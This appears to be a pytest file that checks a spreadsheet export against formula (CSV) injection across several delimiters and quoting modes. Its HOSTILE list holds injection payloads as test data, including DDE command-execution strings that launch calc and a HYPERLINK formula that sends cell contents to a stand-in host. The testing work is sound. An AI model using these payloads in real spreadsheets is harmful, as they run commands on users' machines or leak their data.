"""No cell of a sheet for people is a formula in any spreadsheet program, and each reads back."""

import csv
import io
import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from judge.annotation.inert_cell import cell_source, inert_cell
from judge.annotation.sheet import COLUMNS, format_sheet
from tests.judge.annotation.sheet_files import sheet_rows
from tests.judge.factories import make_answer, make_row

FORMULA = re.compile(r"[\s\ufeff\u200b]*[=+\-@＝＋－＠]")
HOSTILE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "＝1",
    "＋1",
    "－1",
    "＠A1",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\t=1",
    "\r=1",
    "\r\n=1",
    "a;=1",
    "a\t=1",
    "a|=1",
    "a\n=1",
    "a\r=1",
    "a,=1",
    "a; =1",
    'a;"=1',
    '"=1"',
    "a;'=1",
    "'=1",
    "''=1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=HYPERLINK("http://a.example?"&A1;"x")',
    "Да:\n- раз\n- два",
    'a";=1;"b',
    'a\n"=1',
]
ALPHABET = st.sampled_from("=+-@＝＋－＠'\"; ,|\t\n\ra1\u00a0\u200b")


def cells_of(data: str, delimiter: str, quoting: int) -> list[str]:
    """Every cell as a program reads it that takes another delimiter, or quotes for letters."""
    lines = re.split(r"\r\n|\r|\n", data) if quoting == csv.QUOTE_NONE else [data]
    cells: list[str] = []
    for line in lines:
        source = io.StringIO(line, newline="")
        try:
            for row in csv.reader(source, delimiter=delimiter, quoting=quoting):  # type: ignore[arg-type]
                cells += row
        except csv.Error:  # a program may split there, too
            cells += line.split(delimiter)
    return cells


def assert_inert(text: str) -> None:
    row = make_row("r1", (text,), question=text)
    data = format_sheet([(row, make_answer(text))]).decode("utf-8-sig")
    for delimiter in ",;\t|":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            formulas = [c for c in cells_of(data, delimiter, quoting) if FORMULA.match(c)]
            assert formulas == [], (text, delimiter, quoting)


def assert_reads_back(text: str) -> None:
    row = make_row("r1", (text,), question=text)
    (line,) = sheet_rows(format_sheet([(row, make_answer(text))]))
    assert [cell_source(line[name]) for name in COLUMNS[2:5]] == [text] * 3


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_is_a_formula_and_each_reads_back(text: str) -> None:
    """With each of four delimiters, and with quotes that a program does not know."""
    assert_inert(text)
    assert_reads_back(text)


@settings(max_examples=400, derandomize=True, deadline=None)
@given(st.text(ALPHABET, max_size=12))
def test_whatever_the_signs(text: str) -> None:
    assert_inert(text)
    assert_reads_back(text)


def test_prose_stays_as_it_is() -> None:
    text = "it's 1-2 @ a = b; 'тест', — да"
    assert inert_cell(text) == text


def test_a_long_text_takes_a_moment() -> None:
    """1 MB of what repeats in the pattern: 0.1 s; the square of it would be hours."""
    for part in (" ", "'", "\t", ";", "; '", "\n"):
        start = time.process_time()
        inert_cell(part * (1_000_000 // len(part)))
        assert time.process_time() - start < 5, part
